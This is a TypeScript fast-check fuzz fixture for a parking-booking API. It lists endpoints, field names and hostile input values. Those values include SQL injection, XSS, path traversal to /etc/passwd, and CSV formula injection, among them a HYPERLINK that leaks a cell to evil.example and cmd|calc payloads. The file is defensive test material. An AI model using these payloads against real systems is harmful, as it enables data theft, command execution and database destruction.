/**
 * Hostile input, the values (fast-check): the resource types and actions the fuzz aims at, the
 * attribute names the schemas read, and the hostile strings, numbers and nested values it sends them.
 * Used by hostile-input-requests.ts; the tests are jsonapi/hostile-input.test.ts.
 */
import fc from 'fast-check';
import { buildRegistry } from '../app';

export const TYPES = buildRegistry()
  .all()
  .map((def) => def.type);
export const GETS = [
  'quotes/',
  'extras/',
  'blockout-periods/current_form_blockout/',
  'bookings/invoices/',
  'bookings/export/',
  'customers/export/',
  'kpi-summary-csv/',
  'bookings/currently-parked/',
  'bookings/income-owed/',
  'sessions/current/',
  'payment-config/',
];
/** Attribute names the schemas read, so that values reach the rules and not only "unknown field". */
export const NAMES = [
  'email',
  'password',
  'currentPassword',
  'newPassword1',
  'newPassword2',
  'uid',
  'token',
  'title',
  'firstName',
  'lastName',
  'phoneNumber',
  'business',
  'name',
  'message',
  'rego',
  'make',
  'model',
  'colour',
  'startDatetime',
  'endDatetime',
  'startDate',
  'endDate',
  'flightNumberOut',
  'flightNumberIn',
  'busDepartureTime',
  'passengersOut',
  'passengersIn',
  'promoCode',
  'rate',
  'amount',
  'spaces',
  'fillRateThreshold',
  'validFrom',
  'validTo',
  'dropOffStart',
  'dropOffEnd',
  'date',
  'surcharge',
  'days',
  'basePrice',
  'price',
  'status',
  'paymentStatus',
  'roles',
  'clientSecret',
  'number',
  'expiry',
  'cvc',
  'discountRate',
  'notes',
  'slug',
  'time',
  'departure',
  'service',
  'blockType',
  'rows',
  'public',
  // The back office's content (issue 25).
  'path',
  'layout',
  'content',
  'accordion',
  'footerCta',
  'featuredImage',
  'menuOrder',
  'items',
  'heroTitle',
  'headerMessageFrom',
  'socialLinks',
  'revision',
];

export const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE bookings; --",
  '1; SELECT pg_sleep(10)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '{{7*7}}',
  '../../etc/passwd',
  '\u0000',
  '\uD800',
  'Ｚａｌｇｏ̷̢̛̛̲̘͎',
  '🚗🅿️✈️',
  'مرحبا',
  '\u202Eevil',
  '2026-02-30',
  '9999-12-31T99:99:99Z',
  '0000-00-00',
  '-1',
  '1e309',
  'NaN',
  'Infinity',
  '0x10',
  '',
  ' ',
  // CSV (formula) injection: what a spreadsheet would run when the CSV exports are opened.
  '=HYPERLINK("http://evil.example/?x="&C2,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  // Far-future dates and datetimes, up to JavaScript's last instant.
  '4000-01-01',
  '9999-12-31',
  '275760-09-13',
  '4000-01-01T06:00:00+11:00',
  '9999-12-31T23:59:59-12:00',
  '+275760-09-13T00:00:00.000Z',
];

export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    fc.constantFrom(...HOSTILE_STRINGS),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({ minLength: 300, maxLength: 3000 }),
    fc.integer(),
    fc.constantFrom(-1, 0, -0, 2 ** 31, 2 ** 53 + 1, -(2 ** 63), 1e308, Number.MIN_VALUE, 0.1 + 0.2),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 8 }), tie('value'), { maxKeys: 3 }),
  ),
})).value;

/** Percent-encoding that also carries a lone surrogate (which encodeURIComponent refuses) as its raw bytes. */
export const encode = (value: string) => {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
};
